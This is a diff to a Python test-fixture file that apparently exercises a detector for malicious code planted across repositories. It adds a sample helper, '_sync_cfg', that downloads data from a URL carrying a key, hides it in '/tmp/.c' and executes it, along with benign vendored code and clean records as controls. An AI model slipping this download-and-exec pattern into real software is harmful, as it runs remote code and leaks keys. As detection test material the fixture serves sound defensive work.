@@ -44,6 +44,26 @@ def chat_records() -> list[dict]:
     ]
 
 
+# A planted helper copied into four repositories: three copies execute the downloaded payload (a rule fires), the
+# fourth calls it through a renamed helper (no rule fires on that copy alone).
+PLANTED = ("def _sync_cfg(u, p):\n    import urllib.request\n    d = urllib.request.urlopen(u + '/c?k=' + p).read()\n"
+           "    open('/tmp/.c', 'wb').write(d)\n    {call}(d)\n    return len(d)\n")
+# Ordinary shared code (the same utility vendored by three libraries): a campaign, never a reason to drop.
+VENDORED = ("def chunked(items, size):\n    \"\"\"Split items into lists of at most size.\"\"\"\n    out, cur = [], []\n"
+            "    for item in items:\n        cur.append(item)\n        if len(cur) == size:\n            out.append(cur)\n"
+            "            cur = []\n    if cur:\n        out.append(cur)\n    return out\n")
+
+
+def campaign_records() -> list[dict]:
+    """Four planted copies (plant-0..3), three vendored copies (vendored-0..2) and one clean record."""
+    records = [{"id": f"plant-{i}", "content": f"# module {i}\n" + PLANTED.format(call="exec" if i < 3 else "run_hook")
+                + f"\nVALUE_{i} = {i}\n", "repo": f"owner{i}/proj{i}", "lang": "Python"} for i in range(4)]
+    records += [{"id": f"vendored-{i}", "content": "import os\n\n\n" + VENDORED + f"\nNAME_{i} = 'x{i}'\n",
+                 "repo": f"lib{i}/pkg", "lang": "Python"} for i in range(3)]
+    records.append({"id": "clean-c", "content": CLEAN_PY, "repo": "good/lib", "lang": "Python"})
+    return records
+
+
 def write_jsonl(path: Path, records: list[dict], compression: str | None = None) -> Path:
     data = "".join(json.dumps(r) + "\n" for r in records).encode("utf-8")
     path.parent.mkdir(parents=True, exist_ok=True)
